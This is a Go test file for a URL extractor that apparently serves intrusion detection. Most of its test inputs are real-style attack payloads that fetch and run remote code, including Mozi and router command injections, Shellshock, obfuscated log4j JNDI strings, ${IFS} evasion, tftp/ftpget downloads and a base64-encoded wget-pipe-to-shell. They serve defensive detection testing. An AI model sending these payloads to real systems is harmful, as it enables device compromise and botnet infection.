package payload

import (
	"strings"
	"testing"
)

func found(f *Finder) string {
	var list []string
	for i := range f.Len() {
		list = append(list, string(f.URL(i)))
	}
	return strings.Join(list, " ")
}

func TestAdd(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{"nothing", "", ""},
		{"no address", "username=admin&password=1234", ""},
		{"another scheme", "javascript://x data:text urn://y", ""},
		{"a scheme alone", "http://", ""},
		{"a namespace", `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><x xmlns='http://a/'>`, ""},
		{"a document type", `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd">`, ""},
		{"a program's name", "User-Agent: Wget/1.21 curl/7.88 (tftp)", ""},
		{"words that only begin so", "wgetter 1.2.3.4 ftpd 1.2.3.4 fetching a.b", ""},
		{"a command without an address", "wget -O x -; curl; tftp -g -r x; ftpget", ""},
		{"no host", "wget mips; curl /x; ftpget localhost", ""},

		{"in a query", "/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4:8088/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws", "http://1.2.3.4:8088/Mozi.a"},
		{"escaped", "/cgi-bin/;cd%20/tmp;wget%20http%3A%2F%2F1.2.3.4%2Fx.sh", "http://1.2.3.4/x.sh"},
		{"escaped twice", "a=wget%2520http%253A%252F%252F1.2.3.4%252Fx", "http://1.2.3.4/x"},
		{"without a scheme", "; wget 1.2.3.4/bins/x -O /tmp/x; curl -o y example.com/z", "http://1.2.3.4/bins/x http://example.com/z"},
		{"twice the same", "wget http://1.2.3.4/a; curl http://1.2.3.4/a", "http://1.2.3.4/a"},
		{"Huawei", "<NewStatusURL>$(/bin/busybox wget -g 1.2.3.4 -l /tmp/mips -r /mips; /bin/busybox chmod 777 * /tmp/mips)</NewStatusURL>", "http://1.2.3.4/mips"},
		{"Realtek", "<NewInternalClient>`cd /var; wget http://1.2.3.4/r.sh -O -`</NewInternalClient>", "http://1.2.3.4/r.sh"},
		{"in the way of GPON", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://1.2.3.4/g+-O+/tmp/g;sh /tmp/g`&ipv=0", "http://1.2.3.4/g"},
		{"IFS", "wget${IFS}http://1.2.3.4/a;wget$IFS$9http://1.2.3.4/b;curl$IFS5.6.7.8/c", "http://1.2.3.4/a http://1.2.3.4/b http://5.6.7.8/c"},
		{"XML's entities", "&lt;a&gt;wget http://1.2.3.4/x&amp;&amp;sh x", "http://1.2.3.4/x"},
		{"JSON", `{"cmd":"wget http:\/\/1.2.3.4\/x"}`, "http://1.2.3.4/x"},
		{"quoted", `curl "1.2.3.4/x" 'http://5.6.7.8/y'`, "http://5.6.7.8/y http://1.2.3.4/x"},
		{"pipe", "curl -fsSL http://1.2.3.4/init.sh|sh", "http://1.2.3.4/init.sh"},
		{"tftp", "tftp -g -l .x -r mips 1.2.3.4; tftp 5.6.7.8 -c get tftp1.sh; tftp -r t2.sh -g 9.9.9.9", "tftp://1.2.3.4/mips tftp://5.6.7.8/tftp1.sh tftp://9.9.9.9/t2.sh"},
		{"ftpget", "ftpget -v -u anonymous -p anonymous -P 21 1.2.3.4 ftp1.sh ftp1.sh; ftpget 5.6.7.8 a", "ftp://1.2.3.4:21/ftp1.sh ftp://5.6.7.8/a"},
		{"log4j", "x=${jndi:ldap://1.2.3.4:1389/Exploit}", "ldap://1.2.3.4:1389/Exploit"},
		{"log4j, wrapped", "${${lower:j}ndi:${lower:l}${upper:d}a${::-p}://1.2.3.4/x}", "ldap://1.2.3.4/x"},
		{"base64", "echo d2dldCBodHRwOi8vMS4yLjMuNC94LnNoIC1PLXxzaA== | base64 -d | sh", "http://1.2.3.4/x.sh"},
		{"capitals", "WGET HTTP://1.2.3.4/X", "HTTP://1.2.3.4/X"},
		{"a full stop behind", "see http://a.b/c.", "http://a.b/c"},
		{"seventeen", strings.Repeat("x", 3) + many(17), strings.TrimSpace(many(16))},
	} {
		var f Finder
		f.Add([]byte(c.text))
		if got := found(&f); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

func many(n int) (s string) {
	for i := range n {
		s += " http://a/" + string(rune('a'+i))
	}
	return s
}

// TestAddCommands: an address alone is no finding in a header.
func TestAddCommands(t *testing.T) {
	for text, want := range map[string]string{
		"Referer: http://a.b/": "",
		"User-Agent: () { :;}; /bin/bash -c 'cd /tmp; wget http://1.2.3.4/x'":   "http://1.2.3.4/x",
		"SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget 1.2.3.4/y`": "http://1.2.3.4/y",
		"X-Api-Version: ${jndi:rmi://1.2.3.4/o}":                                "rmi://1.2.3.4/o",
	} {
		var f Finder
		f.AddCommands([]byte(text))
		if got := found(&f); got != want {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	}
}

func TestNoAllocation(t *testing.T) {
	var f Finder
	text := []byte("username=admin&password=1234&cmd=wget+http://1.2.3.4/x")
	f.Add(text)
	if n := testing.AllocsPerRun(100, func() { f.Reset(); f.Add(text) }); n != 0 {
		t.Errorf("%v allocations", n)
	}
}

func FuzzAdd(f *testing.F) {
	for _, s := range []string{
		"wget+http://1.2.3.4/x", "${jndi:ldap://a/b}", "tftp -g -r x 1.2.3.4", "echo aHR0cDovL2EvYmJiYmJiYmJi|base64 -d",
		"ftpget -P 2 a.b c d", "%25%32%35&amp;\\/${IFS}", "curl 'a.b/c'",
	} {
		f.Add([]byte(s))
	}
	var x Finder
	f.Fuzz(func(t *testing.T, b []byte) {
		x.Reset()
		x.Add(b)
		x.AddCommands(b)
		if x.Len() > MaxURLs {
			t.Errorf("%d addresses", x.Len())
		}
		for i := range x.Len() {
			if n := len(x.URL(i)); n == 0 || n > MaxURL {
				t.Errorf("%q", x.URL(i))
			}
		}
	})
}
